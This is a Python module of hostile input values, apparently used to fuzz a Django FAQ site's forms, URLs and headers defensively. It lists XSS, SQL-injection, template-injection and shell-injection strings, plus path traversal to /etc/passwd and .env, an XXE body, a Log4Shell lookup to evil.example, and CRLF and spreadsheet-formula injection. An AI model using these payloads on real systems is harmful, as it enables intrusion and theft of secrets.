"""Hostile values, by kind. Text may hold lone surrogates; `raw` makes the bytes that are sent."""

from urllib.parse import quote_from_bytes

MARK = "xinj"
"""Name of the elements and attributes that no answer may have."""

EVIL = "evil.example"
"""A host that no answer may load something from, or lead to by itself."""

TEMPLATE_RAN = "seven-and-eight"
"""What one template payload becomes where it is run."""

MARKUP = [
    f"<{MARK}>", f'"><{MARK} a="', f"'><{MARK} a='", f'" {MARK}="1', f"' {MARK}='1' b='", f"x {MARK}=1 y",
    f"</title><{MARK}>", f"</script><{MARK}>", f"</textarea><{MARK}>", f"</style><{MARK}>", f"--><{MARK}>",
    f"]]><{MARK}/>", f"<!--<script>{MARK}", "<script>alert(1)</script>", "<svg/onload=alert(1)>",
    f"<img src=//{EVIL}/x onerror=alert(1)>", f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    f'<base href="//{EVIL}/">', f'<form action="//{EVIL}/">', f"&lt;{MARK}&gt;", f"%3C{MARK}%3E", f"\\u003c{MARK}\\u003e",
    f"<{MARK}\0>", f"＜{MARK}＞", "<a href=\"javascript:alert(1)\">x</a>", f"<iframe srcdoc='<{MARK}>'>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVa\tScript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"![x](https://{EVIL}/x.png)",
    f'[x](https://{EVIL}/ "\\" onclick=alert(1)")',
    f"<https://{EVIL}/>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[" * 5000,
    "*" * 5000,
    "> " * 3000,
    "- " * 2000 + "x",
    "`" * 3000,
    f"# <{MARK}>",
    "a\n===",
    "|a|\n|-|\n|b|",
    "[x](vbscript:1)",
    "&#106;avascript:1",
    "[x](//" + EVIL + ")",
]
LINKS = [
    "javascript:alert(1)", " javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", f"//{EVIL}/", f"///{EVIL}/", f"/\\{EVIL}/", f"\\\\{EVIL}/", f"https:{EVIL}",
    f"https://{EVIL}/", f"http://testserver@{EVIL}/", f"https://testserver.{EVIL}/", f"/\t/{EVIL}/", f"/%09/{EVIL}/",
    f"https://{EVIL}\\@testserver/", "http://[", "http://[::1", "https://a b/", "http://\ud800/", f"//{EVIL}%2F@testserver",
    "http://" + "a" * 3000 + ".example/", "ftp://x/", "file:///etc/passwd", "mailto:a@b?bcc=c", "http://xn--/", "/../../admin/",
]  # fmt: skip
SQL = [
    "'", '"', "' OR '1'='1", "1 OR 1=1--", "'; DROP TABLE faq_question; --", "') UNION SELECT password FROM auth_user--",
    "1; SELECT 1", "\\'", "%' AND 1=1 AND '%'='", "admin'/*", "NULL", "0x27", "$$", "text' AND text MATCH 'x", "NEAR(a b, 3)",
    '"unbalanced', "a AND", "a OR", "NOT", "*", "a*b*", "^a", "a:b", "-", "--", "(((((", ")", "{a b} : c", "a + b", "& | !", "a:*",
    "<->", "!!a", "\\", "%", "_", "%%", "[a-z]", "a\\b",
]  # fmt: skip
TEMPLATES = [
    '{{ "seven"|add:"-and-eight" }}', "{% debug %}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}",
    '{% include "500.html" %}', "{% load static %}", "{{ x|safe }}", "{{", "%}", "{# #}", "%(password)s", "%s%s%s%n%d", "{0}",
    "{0.__class__.__init__.__globals__}", "{self}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "$(id)", "`id`", "| id",
    "; cat /etc/passwd",
]  # fmt: skip
LINES = [
    "x\r\nX-Injected: 1", "x\nX-Injected: 1", "x\r\n\r\n<xinj>", "x\rSet-Cookie: injected=1", "%0d%0aX-Injected:%201",
    "\u560d\u560aX-Injected: 1", "x\nFORGED: logged in", "x\r\nFORGED: logged in", "x\u2028FORGED: y", "x\x85FORGED: y",
    "x\x0bFORGED: y", "\x1b[2J\x1b[31mFORGED", "x\x08\x08\x08", '"}\n{"level": "FORGED"}',
]  # fmt: skip
LETTERS = [
    "\0", "a\0b", "\ud800", "a\udfff", "\udcff\udc80", "\ud83d", "\ufffe", "\uffff", "\U0010ffff", "\ufeffx", "\x7f", "\x80", "\x01",
    "\u202egnp.exe", "a\u202db\u202ec", "\u2066\u2067\u2068", "\u2069\u2069\u2069", "\u202a" * 200, "\u200f\u200e\u061c", "\u200b", "\u200b\u200d\u2060",
    "a" + "\u0301" * 2000, "\u0301", "مرحبا (12) hello", "שלום", "ﷺ" * 500, "İ" * 300, "ß" * 300, "ŉ" * 300, "ﬃ" * 300, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301", "\U000e0041\U000e0042", "２", "½", "\u3164", "\xad", "\t", "\n", "\r", " ", "\u2028", "\xa0", "Ⅷ", "𝕏" * 50, "\U0001d400",
]  # fmt: skip
LONG = [
    "a" * 100_000, "a " * 50_000, "é" * 50_000, "<" * 20_000, "9" * 5000, "-" * 5000, '"' * 5001, "(" * 5000, "\n" * 5000,
    "借" * 34_000, "a," * 20_000, "a;" * 20_000, "x" * 151, "x" * 256, "x" * 501, "x" * 1001, "x" * 10_001, "%" * 20_000, "a-" * 9000,
    "?" * 5000, ". " * 5000, "\u0301" * 9000, "http://" * 5000,
]  # fmt: skip
NUMBERS = [
    "-1", "0", "1", "2", "999999", str(2**31 - 1), str(2**31), str(2**63 - 1), str(2**63), str(10**17), str(10**30), "9" * 400, "9" * 5000,
    "-" + str(2**63), "1.5", "1e400", "-1e400", "NaN", "inf", "0x10", "1_000", "²", "٣", "１", "۹" * 30, "१", "", " ", " 1", "1 ", "1\0", "+1",
    "1,2", "1,", ",", "0" * 300 + "1", "true", "None", "null", "[]", "1-2", "--1", "last", "first",
]  # fmt: skip
DATES = [
    "0000-00-00", "9999-12-31", "10000-01-01", "-1", "2026-02-30", "2026-13-01", "1", "99999999999", "2026-01-01T25:00", "now()",
    "0001-01-01", "2026-W01", "٢٠٢٦-٠١-٠١",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\")", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1+1", "|cmd", "'=1", "\"=1", "＝1+1",
    "=cmd|' /C calc'!A0",
]  # fmt: skip
NAMES = [
    "admin", "Admin", "ADMIN", "erin", "erin ", " erin", "erin\0", "erin\nFORGED: logged in", "\ud800", "e\u200brin", "ｅｒｉｎ", "İ",
    "a" * 100_000, "../../etc/passwd", "*)(uid=*", "' or 1=1--", "", "nobody@example.org",
]  # fmt: skip
PATHS = [
    b"//", b"///admin/", b"/admin//", b"/./admin/", b"/../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd", b"/..%2f..%2f", b"/%2f%2fevil.example/",
    b"//evil.example/", b"//evil.example/%2e%2e", b"/admin;x=1/", b"/admin/;/", b"/;/", b"/%00", b"/about%00/", b"/about/%ED%A0%80",
    b"/%ED%A0%80/", b"/%ff", b"/%c0%ae%c0%ae/", b"/%", b"/%zz", b"/about", b"/ABOUT/", b"/about/.", b"/about/..", b"/about/%2e%2e/admin/",
    b"/es", b"/es/es/", b"/es/admin/", b"/en/", b"/es//evil.example/", b"/es/%0d%0aX-Injected:1/", b"/%0d%0aX-Injected:1", b"/%0aFORGED/",
    b"/%E2%80%AE/", b"/" + b"a" * 20_000, b"/" + b"a/" * 5_000, b"/" + b"%20" * 3000, b"/static/", b"/static/../manage.py",
    b"/static/%2e%2e/%2e%2e/settings.py", b"/static/..%5c..%5c", b"/static/css/site.css/", b"/static/css%2fsite.css", b"/static/%00",
    b"/static/%ff", b"/static/css/site.css%00.png", b"/.git/config", b"/.env", b"/favicon.ico", b"/robots.txt/", b"/sitemap.xml?p=%FF",
    b"/questions%3fq=x", b"/questions/%23", b"/%3Cxinj%3E/", b"/%22%3E%3Cxinj%3E", b"/%7B%7Bsettings%7D%7D/", b"/admin/%3Cxinj%3E/",
    b"/admin/faq/question/%3Cxinj%3E/change/", b"/admin/faq/%2e%2e/", b"/admin/\\evil.example", b"\\\\evil.example", b"/admin/login/x/..",
    b"/admin//evil.example/", b"/admin/evil.example", b"/about/index.php", b"/questions/?q[]=", b"*", b"", b"x", b"http://evil.example/",
    b"/drafts/" + b"a" * 9000 + b"/", b"/drafts/%00:%00:%00/", b"/drafts/x:y:z/", b"/reports/%2e%2e/", b"/topics/%E2%80%AE/",
]  # fmt: skip

TEXTS = {
    "markup": MARKUP, "markdown": MARKDOWN, "links": LINKS, "sql": SQL, "templates": TEMPLATES, "lines": LINES, "letters": LETTERS,
    "long": LONG, "numbers": NUMBERS, "dates": DATES, "formulas": FORMULAS,
}  # fmt: skip

BYTES = [
    b"\xff",
    b"\xed\xa0\x80",
    b"\xc0\xae",
    b"\xf8\x88\x80\x80\x80",
    b"a\x80",
    b"%",
    b"%zz",
    b"%u0041",
    b"%00",
    b"+",
    b"&&&",
    b"=",
    b"a=b=c",
]
"""Sent as they are, where the site expects UTF-8 in percent signs."""

METHODS = [
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "G\tT",
    "X" * 500,
    "",
    "<xinj>",
]
CONTENT_TYPES = [
    "", "text/plain", "application/json", "application/xml", "text/xml", "multipart/form-data", "multipart/form-data; boundary=",
    "multipart/form-data; boundary=" + "b" * 500, "multipart/form-data; boundary=\xff", "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=base64", "application/x-www-form-urlencoded; charset=\ud800", "a/b/c", ";;;", "\xe9",
    "application/x-www-form-urlencoded;charset=utf-8;charset=rot13", "multipart/mixed; boundary=b", "x" * 9000,
]  # fmt: skip
BODIES = [
    b"", b"{", b'{"a": ' + b"[" * 20_000, b"[]", b"null", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b"\0" * 1000, b"\xff\xfe" * 500, b"a=" + b"b" * 3_000_000, b"&".join(b"a%d=1" % n for n in range(1500)), b"a=1&" * 900, b"&" * 5000,
    b"a[]=1&a[b][c]=2&a.b=3&__proto__[x]=1", b"=&=&=", b"%=%&%ff=%ff", b"csrfmiddlewaretoken=" + b"a" * 5000,
    b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n", b"--b\r\n\r\n--b--\r\n", b"--b--", b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n",
    b'--b\r\nContent-Disposition: form-data; name="a"; filename="../../x\0.csv"\r\nContent-Type: text/csv\r\n\r\nx\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="a"; filename=""\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n//8=\r\n--b--\r\n',
    b"--b\r\n" + b"X: y\r\n" * 5000 + b"\r\n--b--\r\n", b'--b\r\nContent-Disposition: form-data; name="' + b"n" * 50_000 + b'"\r\n\r\nx\r\n--b--\r\n',
]  # fmt: skip
HEADERS = [
    ("HTTP_HOST", ["evil.example", "", "testserver:99999", "testserver:x", "testserver@evil.example", "testserver/evil", "[::1", "a" * 9000, "\xff", "testserver\0", "TESTSERVER.", "x y", "<xinj>"]),
    ("HTTP_X_FORWARDED_HOST", ["evil.example"]), ("HTTP_X_FORWARDED_PROTO", ["https", "javascript", "https,http"]), ("HTTP_X_FORWARDED_PORT", ["x"]),
    ("HTTP_X_FORWARDED_FOR", ["127.0.0.1", "<xinj>", "\0", "1.2.3.4, " * 500, "::ffff:1", "x\nFORGED: y", "999.999.1.1"]),
    ("HTTP_FORWARDED", ["for=<xinj>;host=evil.example"]), ("HTTP_X_REAL_IP", ["x"]), ("HTTP_X_ORIGINAL_URL", ["/admin/"]), ("HTTP_X_REWRITE_URL", ["/admin/"]),
    ("HTTP_X_HTTP_METHOD_OVERRIDE", ["DELETE"]), ("HTTP_X_REQUEST_ID", ["x\nFORGED: y", "<xinj>", "a" * 9000, "\xff\xfe", ""]), ("HTTP_X_SCRIPT_NAME", ["/x"]),
    ("HTTP_REFERER", ["javascript:alert(1)", "https://evil.example/", "<xinj>", "http://[", "\xff", "a" * 9000]), ("HTTP_ORIGIN", ["null", "https://evil.example", "http://[", "x"]),
    ("HTTP_ACCEPT_LANGUAGE", ["es", "xx-" * 3000, ";q=;q=", "es;q=99999999999999999999", "../../etc/passwd", "\0", "\xff", "*", "de" * 500, "es," * 900]),
    ("HTTP_ACCEPT_ENCODING", ["br;q=0", "gzip;q=x", "*", "identity;q=0", "br," * 5000, "\xff", ";;;", "br;q=0.000, gzip;q=0,"]), ("HTTP_ACCEPT", ["application/json", "x", "*/*;q=x"]),
    ("HTTP_IF_NONE_MATCH", ["*", '"x"', 'W/"', '"' * 999, "\xff", "a" * 9000, '"a", ' * 900]), ("HTTP_IF_MATCH", ['"x"', "*"]), ("HTTP_IF_MODIFIED_SINCE", ["x", "Mon, 01 Jan 99999 00:00:00 GMT", "Thu, 01 Jan 1970 00:00:00 GMT", "\xff"]),
    ("HTTP_IF_UNMODIFIED_SINCE", ["x", "Thu, 01 Jan 1970 00:00:00 GMT"]), ("HTTP_RANGE", ["bytes=0-", "bytes=-1", "bytes=9-1", "bytes=" + "0-1," * 900, "x", "bytes=99999999999999999999999-"]), ("HTTP_IF_RANGE", ["x"]),
    ("HTTP_COOKIE", ["sessionid=x", "sessionid=" + "a" * 9000, "=;=;", "\xff=\xff", "csrftoken=<xinj>", "messages=x; sessionid=\0", "sessionid=a\"b; django_language=../../x", ";" * 5000, "a=1; " * 900, "sessionid=\ud800"]),
    ("HTTP_AUTHORIZATION", ["Basic x", "Bearer " + "a" * 5000]), ("HTTP_USER_AGENT", ["<xinj>", "x\nFORGED: y", "{{ settings.SECRET_KEY }}", "${jndi:ldap://evil.example}", "() { :;}; id", ""]), ("HTTP_EXPECT", ["x"]), ("HTTP_TE", ["trailers"]),
    ("HTTP_UPGRADE", ["h2c", "websocket"]), ("HTTP_CONNECTION", ["x-forwarded-host"]), ("CONTENT_LENGTH", ["-1", "99999999999999999999"]), ("HTTP_TRANSFER_ENCODING", ["chunked"]),
    ("HTTP_X_CSRFTOKEN", ["\0", "a" * 9000]), ("HTTP_X_REQUESTED_WITH", ["XMLHttpRequest"]), ("HTTP_PURPOSE", ["prefetch"]), ("SERVER_PORT", ["x"]), ("REMOTE_ADDR", ["", "x", "::1%eth0"]),
]  # fmt: skip


def raw(text):
    """The bytes of a text; a lone surrogate becomes what a careless program would send for it."""
    return text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")


def quoted(text, safe=""):
    """A value for an address or a form: its bytes in percent signs."""
    return quote_from_bytes(raw(text), safe=safe).encode()


def some(random, *kinds):
    """One value, of one of the kinds that are named, else of any."""
    kind = random.choice(kinds or list(TEXTS))
    return random.choice(TEXTS[kind])


def fitting(random, name):
    """A value for a parameter or field of this name: often of the kind that hurts there, else of any."""
    hints = {
        ("page", "p", "o", "pk", "id", "number", "edition", "point", "position", "FORMS", "source", "related", "collection", "topics", "e", "format",
         "content", "state", "seen", "groups", "version", "resource"): ("numbers",),
        ("day", "date", "consulted", "joined", "since"): ("dates", "numbers"),
        ("next", "address", "archived", "url", "_popup", "redirect"): ("links", "lines"),
        ("user", "name", "password", "code"): ("letters", "lines", "sql", "long"),
        ("q", "words", "means", "tag"): ("sql", "letters", "long", "markup"),
        ("text", "language"): ("markdown", "markup", "letters"),
    }  # fmt: skip
    if random.random() < 0.6:
        for parts, kinds in hints.items():
            if any(part in name for part in parts):
                return some(random, *kinds)
    return some(random)
